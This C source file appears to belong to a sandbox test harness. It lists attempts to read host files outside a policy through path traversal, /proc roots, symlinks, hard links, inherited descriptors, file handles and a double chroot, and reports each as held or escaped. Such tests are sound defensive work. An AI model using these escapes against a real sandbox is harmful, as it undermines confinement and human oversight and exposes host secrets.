/* SPDX-License-Identifier: Apache-2.0 */
/* Owns: attempts to read a file of the host that the policy does not name, by every way that leads
 * around a path check: links, "..", /proc, handles, chroot and descriptors that were left open. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attempt.h"

#define UP "../../../../../../../../../../../../../../../.."

static int read_path(int argc, char **argv)
{
    (void)argc;
    return loot_path(argv[0], "by its path");
}

static int read_proc_root(int argc, char **argv)
{
    (void)argc;
    return loot_path(join("/proc/self/root", argv[0], ""), "through /proc/self/root");
}

/* The root and the present directory of every process that can be seen. */
static int read_proc_other(int argc, char **argv)
{
    static const char *const ways[] = { "root", "cwd/" UP };
    char pids[3][16] = { "1", "", "" };
    snprintf(pids[1], sizeof(pids[1]), "%d", getppid());
    snprintf(pids[2], sizeof(pids[2]), "%s", argc > 1 ? argv[1] : "1");
    int last = ENOENT;
    for (int i = 2; i >= 0; i--) {
        for (int way = 0; way < 2; way++) {
            char path[4096];
            snprintf(path, sizeof(path), "/proc/%s/%s%s", pids[i], ways[way], argv[0]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0)
                return loot_fd(fd, path);
            last = errno;
        }
    }
    errno = last;
    return held("open %s below the root of processes 1, %s and %s", argv[0], pids[1], pids[2]);
}

static int read_dotdot(int argc, char **argv)
{
    (void)argc;
    return loot_path(join(UP, argv[0], ""), "up from the present directory");
}

static int read_proc_cwd(int argc, char **argv)
{
    (void)argc;
    return loot_path(join("/proc/self/cwd/" UP, argv[0], ""), "through /proc/self/cwd");
}

/* chdir() up, one step at a time: a root that was replaced while we stood outside does not stop it. */
static int read_chdir_up(int argc, char **argv)
{
    (void)argc;
    for (int i = 0; i < 40; i++) {
        if (chdir("..") < 0)
            break;
    }
    return loot_path(argv[0] + 1, "after chdir(\"..\")");
}

static int read_own_symlink(int argc, char **argv)
{
    (void)argc;
    const char *link = join(argv[1], "/own-link", "");
    unlink(link);
    if (symlink(argv[0], link) < 0)
        return held("symlink");
    int result = loot_path(link, "through a link of our own");
    unlink(join(argv[1], "/own-link", ""));
    return result;
}

static int read_hard_link(int argc, char **argv)
{
    (void)argc;
    const char *link = join(argv[1], "/hard-link", "");
    unlink(link);
    if (linkat(AT_FDCWD, argv[0], AT_FDCWD, link, 0) < 0)
        return held("link");
    int result = loot_path(link, "through a hard link");
    unlink(join(argv[1], "/hard-link", ""));
    return result;
}

static int move_secret(int argc, char **argv)
{
    (void)argc;
    if (rename(argv[0], join(argv[1], "/moved", "")) < 0)
        return held("rename");
    return loot_path(join(argv[1], "/moved", ""), "moved into the workspace");
}

/* Is it even there? A cage of its own root does not say. */
static int stat_secret(int argc, char **argv)
{
    (void)argc;
    struct stat st;
    if (stat(argv[0], &st) < 0)
        return held("stat");
    return escaped("a file of %lld bytes, inode %llu", (long long)st.st_size,
                   (unsigned long long)st.st_ino);
}

static int list_directory(int argc, char **argv)
{
    (void)argc;
    int fd = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return held("open the directory");
    char entries[4096];
    long got = syscall(SYS_getdents64, fd, entries, sizeof(entries));
    close(fd);
    return judge(got, "listed the directory of the secret");
}

static int leaked_fd_read(int argc, char **argv)
{
    (void)argc;
    return loot_fd((int)number(argv[0]), "from an inherited descriptor");
}

static int leaked_directory_openat(int argc, char **argv)
{
    (void)argc;
    int fd = openat((int)number(argv[0]), argv[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return held("openat");
    return loot_fd(fd, "beneath an inherited directory");
}

static int leaked_directory_fchdir(int argc, char **argv)
{
    (void)argc;
    if (fchdir((int)number(argv[0])) < 0)
        return held("fchdir");
    return loot_path(argv[1], "in an inherited directory");
}

/* Any descriptor beyond 0 to 2 is one that nobody meant. */
static int leaked_any_fd(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    for (int fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        char link[64], target[512] = "?";
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        ssize_t length = readlink(link, target, sizeof(target) - 1);
        if (length > 0)
            target[length] = '\0';
        return escaped("descriptor %d is open: %s", fd, target);
    }
    errno = EBADF;
    return held("descriptors from 3 to 4095");
}

static int leaked_socket_write(int argc, char **argv)
{
    (void)argc;
    return judge(write((int)number(argv[0]), "canary", 6), "wrote to an inherited socket");
}

/* Standard input is a file that was opened for reading: open it again through /proc, for writing. */
static int reopen_stdin(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    struct stat st;
    int fd = open("/proc/self/fd/0", O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return held("open /proc/self/fd/0 for writing");
    if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
        errno = ESPIPE;
        return held("standard input is no file of the host");
    }
    return judge(pwrite(fd, "CHANGED", 7, 0), "changed the file that is standard input");
}

/* Standard output is the end of a log: open it again, for reading from its start. */
static int reopen_stdout(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    struct stat st;
    int fd = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0)
        return held("open /proc/self/fd/1 for reading");
    if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
        errno = ESPIPE;
        return held("standard output is no file of the host");
    }
    return loot_fd(fd, "read what was in the log before");
}

/* A handle needs no path; the inode is guessed (here: told). */
static int open_by_handle(int argc, char **argv)
{
    (void)argc;
    union {
        struct file_handle handle;
        char bytes[sizeof(struct file_handle) + 128];
    } u = { 0 };
    size_t length = strlen(argv[1]) / 2;
    if (length > 128)
        return USAGE;
    for (size_t i = 0; i < length; i++) {
        char digits[3] = { argv[1][2 * i], argv[1][2 * i + 1], '\0' };
        u.handle.f_handle[i] = (unsigned char)strtoul(digits, NULL, 16);
    }
    u.handle.handle_bytes = (unsigned)length;
    u.handle.handle_type = (int)number(argv[0]);
    int mount = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount < 0)
        return held("open a directory of the same file system");
    int fd = open_by_handle_at(mount, &u.handle, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return held("open_by_handle_at");
    return loot_fd(fd, "by its handle");
}

/* The classic: a chroot inside a chroot leaves the present directory outside. */
static int double_chroot(int argc, char **argv)
{
    (void)argc;
    mkdir(join(argv[1], "/inner", ""), 0755);
    if (chroot(argv[1]) < 0)
        return held("chroot");
    if (chroot("/inner") < 0)
        return held("second chroot");
    for (int i = 0; i < 40; i++) {
        if (chdir("..") < 0)
            return held("chdir");
    }
    if (chroot(".") < 0)
        return held("last chroot");
    return loot_path(argv[0], "after a chroot in a chroot");
}

const struct attempt read_attempts[] = {
    { "read-path", 1, read_path, "read SECRET by its path" },
    { "read-proc-root", 1, read_proc_root, "read SECRET through /proc/self/root" },
    { "read-proc-other", 2, read_proc_other,
      "read SECRET through the root of process 1, the parent or PID" },
    { "read-dotdot", 1, read_dotdot, "read SECRET with many \"..\" from the present directory" },
    { "read-proc-cwd", 1, read_proc_cwd, "read SECRET through /proc/self/cwd" },
    { "read-chdir-up", 1, read_chdir_up, "walk up to the real root and read SECRET" },
    { "read-own-symlink", 2, read_own_symlink, "read SECRET through a link made in WRITABLE" },
    { "read-planted-symlink", 1, read_path,
      "read through LINK, which somebody planted in a granted directory" },
    { "read-hidden", 1, read_path, "read HIDDEN, which a granted directory holds" },
    { "read-hard-link", 2, read_hard_link, "make a hard link to SECRET in WRITABLE and read it" },
    { "move-secret", 2, move_secret, "move SECRET into WRITABLE and read it" },
    { "stat-secret", 1, stat_secret, "learn the size of SECRET" },
    { "list-directory", 1, list_directory, "list DIRECTORY, which the policy does not name" },
    { "leaked-fd-read", 1, leaked_fd_read, "read from inherited descriptor FD" },
    { "leaked-directory-openat", 2, leaked_directory_openat, "openat beneath inherited FD: NAME" },
    { "leaked-directory-fchdir", 2, leaked_directory_fchdir,
      "fchdir to inherited FD, then open NAME" },
    { "leaked-any-fd", 0, leaked_any_fd, "find any descriptor beyond 0 to 2" },
    { "leaked-socket-write", 1, leaked_socket_write, "write to inherited socket FD" },
    { "reopen-stdin", 0, reopen_stdin, "open standard input again, for writing" },
    { "reopen-stdout", 0, reopen_stdout, "open standard output again, for reading" },
    { "open-by-handle", 3, open_by_handle, "open handle TYPE HEX on the file system of DIRECTORY" },
    { "double-chroot", 2, double_chroot, "leave by a chroot in a chroot in WRITABLE, read SECRET" },
    { 0 },
};
